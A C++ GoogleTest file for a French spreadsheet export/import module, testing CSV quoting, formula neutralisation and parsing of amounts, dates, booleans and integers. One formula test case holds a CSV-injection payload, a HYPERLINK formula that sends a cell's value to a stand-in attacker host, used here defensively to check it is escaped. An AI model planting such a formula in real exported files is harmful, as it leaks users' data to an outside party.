// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/tableur_ecriture.h"

#include <gtest/gtest.h>

#include <cmath>
#include <sstream>

using namespace tramonta;

namespace {

struct CasChamp {
    const char* texte;
    const char* ecrit;
};

class Champ : public testing::TestWithParam<CasChamp> {};

TEST_P(Champ, SeCiteQuandUnTableurLeCouperaitOuLeRognerait) {
    EXPECT_EQ(ChampTableur(GetParam().texte), GetParam().ecrit);
}

INSTANTIATE_TEST_SUITE_P(
    Table, Champ,
    testing::Values(CasChamp{"", ""}, CasChamp{"Dupont", "Dupont"},
                    CasChamp{"Hélène Œuvray", "Hélène Œuvray"}, CasChamp{"a;b", "\"a;b\""},
                    CasChamp{"dit \"Vague\"", "\"dit \"\"Vague\"\"\""}, CasChamp{"\"", "\"\"\"\""},
                    CasChamp{"1 rue\r\nBâtiment B", "\"1 rue\r\nBâtiment B\""}, CasChamp{"a\nb", "\"a\nb\""},
                    CasChamp{"a\rb", "\"a\rb\""}, CasChamp{" devant", "\" devant\""},
                    CasChamp{"derrière ", "\"derrière \""}, CasChamp{"\ttab", "\"\ttab\""},
                    CasChamp{"au milieu", "au milieu"}, CasChamp{"a,b", "a,b"}));

struct CasFormule {
    const char* texte;
    const char* ecrit;
};

class Formule : public testing::TestWithParam<CasFormule> {};

// What a spreadsheet would run goes out behind an apostrophe, and the reader
// gives back the text exactly, those that begin with an apostrophe included.
TEST_P(Formule, EstNeutraliseeEtSeRelitALIdentique) {
    EXPECT_EQ(TexteSansFormule(GetParam().texte), GetParam().ecrit);
    EXPECT_EQ(AvecFormule(GetParam().ecrit), GetParam().texte);
}

INSTANTIATE_TEST_SUITE_P(Table, Formule,
                         testing::Values(CasFormule{"=HYPERLINK(\"http://attaquant.example/?v=\"&B3)",
                                                    "'=HYPERLINK(\"http://attaquant.example/?v=\"&B3)"},
                                         CasFormule{"+33 6 12 34 56 78", "'+33 6 12 34 56 78"},
                                         CasFormule{"-2+3", "'-2+3"}, CasFormule{"@SUM(A1)", "'@SUM(A1)"},
                                         CasFormule{"\tcmd", "'\tcmd"}, CasFormule{"\r=1", "'\r=1"},
                                         CasFormule{"＝1+1", "'＝1+1"}, CasFormule{"＋1", "'＋1"},
                                         CasFormule{"－1", "'－1"}, CasFormule{"＠A1", "'＠A1"},
                                         // A text that begins with an apostrophe and a formula sign.
                                         CasFormule{"'=1", "''=1"}, CasFormule{"''-x", "'''-x"},
                                         // Nothing to hide.
                                         CasFormule{"", ""}, CasFormule{"'", "'"}, CasFormule{"'a", "'a"},
                                         CasFormule{"''", "''"}, CasFormule{"Dupont", "Dupont"},
                                         CasFormule{"Jean-Paul", "Jean-Paul"}, CasFormule{" =1", " =1"},
                                         CasFormule{"a=b", "a=b"}));

TEST(EcrivainTableur, MetLaMarqueUneFoisPuisDesLignesCRLF) {
    std::ostringstream sortie;
    TEcrivainTableur e(sortie);
    e.Ligne({"Nom", "Prénom"});
    e.Ligne({"a;b", ""});
    e.Ligne({});
    EXPECT_EQ(sortie.str(), "\xEF\xBB\xBFNom;Prénom\r\n\"a;b\";\r\n\r\n");
}

TEST(EcrivainTableur, SansLigneNeDonneQueLaMarque) {
    std::ostringstream sortie;
    TEcrivainTableur e(sortie);
    EXPECT_EQ(sortie.str(), "\xEF\xBB\xBF");
}

struct CasMontant {
    double valeur;
    const char* ecrit;
};

class EcritureMontant : public testing::TestWithParam<CasMontant> {};

TEST_P(EcritureMontant, SEcritAvecUneVirguleEtSeRelitALIdentique) {
    const std::string ecrit = MontantTableur(GetParam().valeur);
    EXPECT_EQ(ecrit, GetParam().ecrit);
    const auto relu = LireMontantTableur(ecrit);
    ASSERT_TRUE(relu.has_value());
    EXPECT_EQ(*relu, GetParam().valeur == 0 ? 0.0 : GetParam().valeur);
}

INSTANTIATE_TEST_SUITE_P(Table, EcritureMontant,
                         testing::Values(CasMontant{0, "0"}, CasMontant{-0.0, "0"}, CasMontant{12, "12"},
                                         CasMontant{12.5, "12,5"}, CasMontant{12.34, "12,34"},
                                         CasMontant{0.1, "0,1"}, CasMontant{-45.05, "-45,05"},
                                         CasMontant{1234567.89, "1234567,89"},
                                         CasMontant{1e15, "1000000000000000"},
                                         // Not a whole number of cents: kept exactly rather than rounded.
                                         CasMontant{0.1 + 0.2, "0,30000000000000004"}));

TEST(Montant, CeQuiNEstPasUnNombreDonneUnChampVide) {
    EXPECT_EQ(MontantTableur(std::nan("")), "");
    EXPECT_EQ(MontantTableur(INFINITY), "");
}

struct CasLectureMontant {
    const char* texte;
    std::optional<double> valeur;
};

class LectureMontant : public testing::TestWithParam<CasLectureMontant> {};

TEST_P(LectureMontant, LitLesFormesDesTableurs) {
    EXPECT_EQ(LireMontantTableur(GetParam().texte), GetParam().valeur) << GetParam().texte;
}

INSTANTIATE_TEST_SUITE_P(
    Table, LectureMontant,
    testing::Values(CasLectureMontant{"12,50", 12.5}, CasLectureMontant{"12.50", 12.5},
                    CasLectureMontant{"  7 ", 7.0}, CasLectureMontant{"", 0.0}, CasLectureMontant{"  ", 0.0},
                    CasLectureMontant{"-3,2", -3.2}, CasLectureMontant{"+3", 3.0},
                    CasLectureMontant{"1 234,50", 1234.5}, CasLectureMontant{"1\u00A0234,50", 1234.5},
                    CasLectureMontant{"1\u202F234\u202F567,5", 1234567.5},
                    CasLectureMontant{"1.234,50", 1234.5}, CasLectureMontant{"1,234.50", 1234.5},
                    CasLectureMontant{"1.234.567", 1234567.0}, CasLectureMontant{"1 234 567,5", 1234567.5},
                    CasLectureMontant{"1,2,3", 123.0}, CasLectureMontant{"12,50 €", 12.5},
                    CasLectureMontant{"€12", 12.0}, CasLectureMontant{",5", 0.5},
                    CasLectureMontant{"douze", std::nullopt}, CasLectureMontant{"12 €50", std::nullopt},
                    CasLectureMontant{"12,", 12.0}, CasLectureMontant{"-", std::nullopt},
                    CasLectureMontant{",", std::nullopt}, CasLectureMontant{"1 ,5", std::nullopt},
                    CasLectureMontant{"1,5 0", std::nullopt}, CasLectureMontant{"12-3", std::nullopt},
                    CasLectureMontant{"1e5", std::nullopt}, CasLectureMontant{"0x10", std::nullopt}));

struct CasDate {
    const char* texte;
    std::optional<TDateTime> valeur;
};

class LectureDate : public testing::TestWithParam<CasDate> {};

TEST_P(LectureDate, LitLesFormesJourMoisAnEtIso) {
    EXPECT_EQ(LireDateTableur(GetParam().texte), GetParam().valeur) << GetParam().texte;
}

INSTANTIATE_TEST_SUITE_P(
    Table, LectureDate,
    testing::Values(
        CasDate{"05/03/2024", EncodeDate(2024, 3, 5)}, CasDate{"5/3/2024", EncodeDate(2024, 3, 5)},
        CasDate{" 29/02/2024 ", EncodeDate(2024, 2, 29)}, CasDate{"2024-03-05", EncodeDate(2024, 3, 5)},
        CasDate{"2024-3-5", EncodeDate(2024, 3, 5)}, CasDate{"05/03/2024 14:30:00", EncodeDate(2024, 3, 5)},
        CasDate{"2024-03-05T14:30", EncodeDate(2024, 3, 5)}, CasDate{"", 0.0}, CasDate{" ", 0.0},
        CasDate{"29/02/2023", std::nullopt}, CasDate{"32/01/2024", std::nullopt},
        CasDate{"05/13/2024", std::nullopt}, CasDate{"05/03/24", std::nullopt},
        CasDate{"05-03-2024", std::nullopt}, CasDate{"2024/03/05", std::nullopt},
        CasDate{"05/03/2024x", std::nullopt}, CasDate{"demain", std::nullopt},
        CasDate{"005/03/2024", std::nullopt}, CasDate{"05/03/20245", std::nullopt}));

TEST(Date, SEcritJourMoisAnEtVidePourZero) {
    EXPECT_EQ(DateTableur(EncodeDate(2024, 3, 5)), "05/03/2024");
    EXPECT_EQ(DateTableur(EncodeDate(2024, 3, 5) + 0.75), "05/03/2024");
    EXPECT_EQ(DateTableur(0), "");
    EXPECT_EQ(LireDateTableur(DateTableur(EncodeDate(1987, 12, 31))), EncodeDate(1987, 12, 31));
}

struct CasBooleen {
    const char* texte;
    std::optional<bool> valeur;
};

class LectureBooleen : public testing::TestWithParam<CasBooleen> {};

TEST_P(LectureBooleen, LitLesReponsesCourantes) {
    EXPECT_EQ(LireBooleenTableur(GetParam().texte), GetParam().valeur) << GetParam().texte;
}

INSTANTIATE_TEST_SUITE_P(Table, LectureBooleen,
                         testing::Values(CasBooleen{"Oui", true}, CasBooleen{"OUI", true},
                                         CasBooleen{"o", true}, CasBooleen{"1", true},
                                         CasBooleen{"Vrai", true}, CasBooleen{"x", true},
                                         CasBooleen{"X", true}, CasBooleen{" Oui ", true},
                                         CasBooleen{"Non", false}, CasBooleen{"n", false},
                                         CasBooleen{"0", false}, CasBooleen{"FAUX", false},
                                         CasBooleen{"", false}, CasBooleen{"peut-être", std::nullopt},
                                         CasBooleen{"2", std::nullopt}));

TEST(Booleen, SEcritOuiNon) {
    EXPECT_EQ(BooleenTableur(true), "Oui");
    EXPECT_EQ(BooleenTableur(false), "Non");
}

struct CasEntier {
    const char* texte;
    std::optional<std::int32_t> valeur;
};

class LectureEntier : public testing::TestWithParam<CasEntier> {};

TEST_P(LectureEntier, LitUnEntierSigne) {
    EXPECT_EQ(LireEntierTableur(GetParam().texte), GetParam().valeur) << GetParam().texte;
}

INSTANTIATE_TEST_SUITE_P(Table, LectureEntier,
                         testing::Values(CasEntier{"06000", 6000}, CasEntier{"33 000", 33000},
                                         CasEntier{"", 0}, CasEntier{"-12", -12}, CasEntier{" 7 ", 7},
                                         CasEntier{"2147483647", 2147483647},
                                         CasEntier{"2147483648", std::nullopt},
                                         CasEntier{"12,5", std::nullopt}, CasEntier{"1 2 ", 12},
                                         CasEntier{"- 1", std::nullopt}, CasEntier{"abc", std::nullopt}));

} // namespace
